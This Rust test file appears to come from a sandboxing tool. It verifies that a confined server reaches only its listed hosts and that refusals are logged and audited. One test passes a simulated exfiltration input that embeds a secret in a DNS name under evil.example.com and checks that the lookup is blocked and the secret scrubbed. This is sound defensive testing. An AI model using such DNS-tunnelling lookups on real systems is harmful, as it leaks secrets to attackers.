//! A confined server reaches the hosts that its profile lists, through the sidecar, and no others.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener};

use cofferdam_tests::server::Server;
use cofferdam_tests::world::World;
use serde_json::json;

/// A server of the host that answers each connection with one line, and its port.
fn greeter() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen");
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        for peer in listener.incoming() {
            let Ok(mut peer) = peer else { continue };
            let _ = peer.write_all(b"hello from the host\n");
            let _ = peer.shutdown(std::net::Shutdown::Write);
            let _ = peer.read(&mut [0; 64]);
        }
    });
    port
}

fn world(hosts: &str, script: &str) -> World {
    let server = Server::command(["/usr/bin/python3", script]).env("MARK", "unused").confine(hosts);
    World::new().server("client", server).start()
}

const SCRIPT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/confinement/attacks.py");

#[test]
fn a_listed_port_of_the_host_is_reached_and_another_is_refused_and_recorded() {
    let (listed, other) = (greeter(), greeter());
    let world = world(&format!("hosts = [\"localhost:{listed}\"]"), SCRIPT);
    let mut shim = world.connected("client");
    let mut read = |port: u16| {
        let with = json!({ "PORT": port.to_string() });
        shim.call_text("attack", json!({"name": "first_line_of_the_host", "with": with}))
    };
    assert_eq!(read(listed), "REACHED hello from the host");
    assert!(read(other).starts_with("STOPPED ConnectionRefusedError"));
    drop(shim);
    let closed = |record: &serde_json::Value| {
        record["event"] == "connection_closed"
            && record["server"] == "client"
            && record["detail"].as_str().is_some_and(|detail| {
                detail.starts_with(&format!("localhost:{listed}, ")) && detail.contains("20 received")
            })
    };
    world.wait_until("the connection is in the audit", || world.audit().iter().any(closed));
}

#[test]
fn a_name_that_is_not_listed_is_refused_and_the_entry_that_would_allow_it_is_logged() {
    let world = world("hosts = [\"api.example.com:443\"]", SCRIPT);
    let mut shim = world.connected("client");
    let with = json!({ "NAME": "uploads.example.com" });
    let text = shim.call_text("attack", json!({"name": "resolve", "with": with}));
    assert!(text.starts_with("STOPPED gaierror"), "{text}");
    let entry = "`servers.client.confine.hosts` lacks `uploads.example.com:443`";
    world.wait_until("the refusal is in the log", || world.log().contains(entry));
    let refused = |record: &serde_json::Value| {
        record["event"] == "connection_refused"
            && record["detail"].as_str().is_some_and(|detail| detail.contains(entry))
    };
    world.wait_until("the refusal is in the audit", || world.audit().iter().any(refused));
}

#[test]
fn a_secret_in_a_name_is_scrubbed_in_the_log_and_the_audit() {
    let secret = "tunnelled-4711-0815-c0ffee";
    let server = Server::command(["/usr/bin/python3", SCRIPT]).env("MARK", "{mark.value}");
    let world = World::new().server("client", server).secret_file("mark", secret).start();
    let mut shim = world.connected("client");
    let with = json!({ "NAME": format!("{secret}.evil.example.com") });
    let text = shim.call_text("attack", json!({"name": "resolve", "with": with}));
    assert!(text.starts_with("STOPPED gaierror"), "{text}");
    let refused = |record: &serde_json::Value| record["event"] == "connection_refused";
    world.wait_until("the refusal is in the audit", || world.audit().iter().any(refused));
    world.assert_secret_not_leaked(secret);
}
